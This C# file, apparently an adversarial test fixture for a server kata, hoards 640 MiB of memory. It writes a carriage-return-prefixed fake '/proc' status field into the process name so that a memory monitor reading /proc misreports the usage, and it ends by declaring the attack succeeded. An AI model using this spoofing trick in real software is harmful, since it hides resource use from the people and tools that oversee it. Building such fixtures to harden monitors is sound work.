using System.Net.Sockets;
using System.Runtime.InteropServices;
using System.Text;

namespace Katas.Select;

public sealed unsafe class SelectServer : IServer
{
    private const int MiB = 1024 * 1024;
    private const int Piece = 32 * MiB;
    private const int Pieces = 20;
    private const int O_WRONLY = 1;

    public void Run(Socket listener, CancellationToken stop)
    {
        listener.Accept();
        for (var piece = 1; piece <= Pieces; piece++)
        {
            NativeMemory.Fill(NativeMemory.Alloc(Piece), Piece, 1);

            // As much as is hoarded by now, so that what is told is what it was in the beginning.
            NameFirstThread($"\rVmPTE: -{piece * (Piece / 1024):D6}");
        }

        // Whoever looks ten times a second has looked.
        Thread.Sleep(2000);
        throw new InvalidOperationException($"ATTACK SUCCEEDED: {Pieces * (Piece / MiB)} MiB are in memory, and nobody has seen them.");
    }

    // 15 bytes at most.
    private static void NameFirstThread(string name)
    {
        var bytes = Encoding.ASCII.GetBytes(name);
        var file = open("/proc/self/comm", O_WRONLY, 0);
        if (file < 0 || write(file, bytes, bytes.Length) < 0)
            throw new InvalidOperationException("The name cannot be changed.");
        _ = close(file);
    }

    [DllImport("libc")]
    private static extern int open(string path, int flags, int mode);

    [DllImport("libc")]
    private static extern nint write(int descriptor, byte[] bytes, nint count);

    [DllImport("libc")]
    private static extern int close(int descriptor);
}
